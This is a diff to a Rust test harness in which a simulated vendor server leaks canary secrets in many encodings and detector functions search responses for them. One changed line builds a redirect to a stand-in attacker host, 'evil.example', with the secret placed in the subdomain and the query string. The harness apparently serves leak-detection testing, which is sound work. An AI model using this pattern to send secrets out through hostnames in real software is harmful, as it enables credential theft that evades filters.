@@ -9,15 +9,21 @@ use std::net::{TcpListener, TcpStream};
 use std::sync::{Arc, Mutex};
 
 /// How a vendor may say a secret.
-pub const WAYS: [&str; 17] = [
+pub const WAYS: [&str; 18] = [
     "body", "header", "error", "redirect", "gzip", "latin", "base64", "inside", "hex", "percent",
-    "json", "html", "lower", "late", "short", "twice", "reversed",
+    "json", "html", "lower", "late", "short", "digits", "twice", "reversed",
 ];
 
 /// The secret that this way is tried with: one that no other way has.
 pub fn canary(kind: &str, way: &str) -> String {
     match way {
         "short" => format!("q{}#z", &kind[..3]),
+        "digits" => format!(
+            "9053{}77310",
+            kind.len() * 7919 + usize::from(kind.as_bytes()[0])
+        ),
+        // It may be a part of a host's name.
+        "redirect" => format!("kx9-{kind}-qm7-w8"),
         _ => format!("Kx9/{kind}+{way}\"Qm7<Z&w8"),
     }
 }
@@ -26,7 +32,7 @@ pub fn canary(kind: &str, way: &str) -> String {
 pub fn needle(kind: &str, way: &str) -> Vec<u8> {
     let secret = canary(kind, way);
     match way {
-        "hex" | "percent" | "html" | "lower" | "twice" | "reversed" | "json" | "base64" => {
+        "hex" | "percent" | "html" | "lower" | "twice" | "reversed" | "base64" => {
             spelled(way, &secret)
         }
         _ => secret.into_bytes(),
@@ -73,7 +79,7 @@ fn html(text: &str) -> String {
 }
 
 /// Whether a content holds these bytes, as they are, in JSON, in a URL or in base64.
-pub fn finds(content: &[u8], bytes: &[u8]) -> bool {
+pub fn finds(content: &str, bytes: &[u8]) -> bool {
     let text = String::from_utf8_lossy(bytes);
     let json = serde_json::to_string(&text).unwrap();
     let json = json.trim_matches('"').to_owned();
@@ -81,21 +87,19 @@ pub fn finds(content: &[u8], bytes: &[u8]) -> bool {
         .unwrap()
         .trim_matches('"')
         .to_owned();
-    let mut needles = vec![bytes.to_vec(), json.into_bytes(), twice.into_bytes()];
-    needles.push(percent(&text).into_bytes());
+    let mut needles = vec![text.to_string(), json, twice, percent(&text)];
     for before in 0..3 {
         let padded = [&vec![b' '; before][..], bytes].concat();
         let (first, last) = ([0, 2, 3][before], padded.len() * 8 / 6);
         for encoded in [STANDARD.encode(&padded), URL_SAFE_NO_PAD.encode(&padded)] {
-            needles.push(encoded.as_bytes()[first..last].to_vec());
+            needles.push(encoded[first..last].to_owned());
         }
     }
-    let has = |needle: &[u8]| content.windows(needle.len()).any(|part| part == needle);
-    needles.iter().any(|needle| has(needle))
+    needles.iter().any(|needle| content.contains(needle))
 }
 
 /// Whether a content holds a secret in any spelling that is promised to be found.
-pub fn holds(content: &[u8], secret: &str) -> bool {
+pub fn holds(content: &str, secret: &str) -> bool {
     let ways = ["body", "hex", "percent", "html", "lower"];
     ways.iter().any(|way| finds(content, &spelled(way, secret)))
 }
@@ -180,7 +184,7 @@ fn answer(way: &str, kind: &str) -> Vec<u8> {
         "header" => ("200 OK", format!("X-Seen: {secret}\r\n"), b"{}".to_vec()),
         "error" => ("400 Bad Request", String::new(), said),
         "redirect" => {
-            let location = format!("Location: https://{kind}kx9.evil.example/?t={secret}\r\n");
+            let location = format!("Location: https://{secret}.evil.example/?t={secret}\r\n");
             ("302 Found", location, said)
         }
         "gzip" => (
